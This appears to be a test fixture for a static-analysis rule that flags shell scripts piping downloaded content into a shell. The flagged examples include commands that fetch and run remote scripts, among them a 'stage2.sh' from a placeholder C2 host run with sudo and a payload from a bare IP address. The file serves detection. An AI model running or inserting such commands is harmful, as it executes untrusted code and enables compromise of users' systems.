#!/usr/bin/env bash
set -euo pipefail

install_tools() {
  # ruleid: bash-curl-pipe-shell
  curl -fsSL https://get.docker.com | sh
  # ruleid: bash-curl-pipe-shell
  curl -sSL "http://${C2_HOST}:8080/stage2.sh" | sudo -E bash -s -- --quiet
  # ruleid: bash-curl-pipe-shell
  wget -qO- http://185.22.1.9/x | bash
  # ruleid: bash-curl-pipe-shell
  curl -s https://raw.githubusercontent.com/someone/tool/master/install.py | python3 -
  # ruleid: bash-curl-pipe-shell
  bash <(curl -fsSL https://example.com/setup.sh)
  # ruleid: bash-curl-pipe-shell
  sh -c "$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)"
  # ruleid: bash-curl-pipe-shell
  eval "$(wget -qO- http://updates.example.net/env)"
  # ruleid: bash-curl-pipe-shell
  (curl -fsSL http://10.0.0.5/payload.sh || wget -qO- http://10.0.0.5/payload.sh) | /bin/sh
}

safe_downloads() {
  # ok: bash-curl-pipe-shell
  curl -fsSL -o /tmp/install.sh https://get.docker.com
  # ok: bash-curl-pipe-shell
  curl -s https://api.github.com/repos/org/repo/releases/latest | jq -r .tag_name
  # ok: bash-curl-pipe-shell
  curl -fsSL https://example.com/tool.tar.gz | tar -xz -C /opt/tool
  # ok: bash-curl-pipe-shell
  curl -fsSL https://example.com/tool.tar.gz | sha256sum
  # ok: bash-curl-pipe-shell
  wget -qO- https://example.com/KEY.gpg | gpg --dearmor -o /usr/share/keyrings/example.gpg
  # ok: bash-curl-pipe-shell
  curl -s "$URL" | shasum -a 256
  # Install with: curl -fsSL https://example.com/install.sh | sh
  # ok: bash-curl-pipe-shell
  bash ./install.sh --prefix /usr/local
  # ok: bash-curl-pipe-shell
  version="$(curl -fsSL https://example.com/VERSION)"
  # ok: bash-curl-pipe-shell
  sh -c "echo done"
}

usage() {
  # ok: bash-curl-pipe-shell
  echo "To install, run: curl -fsSL https://example.com/install.sh | sh"
}
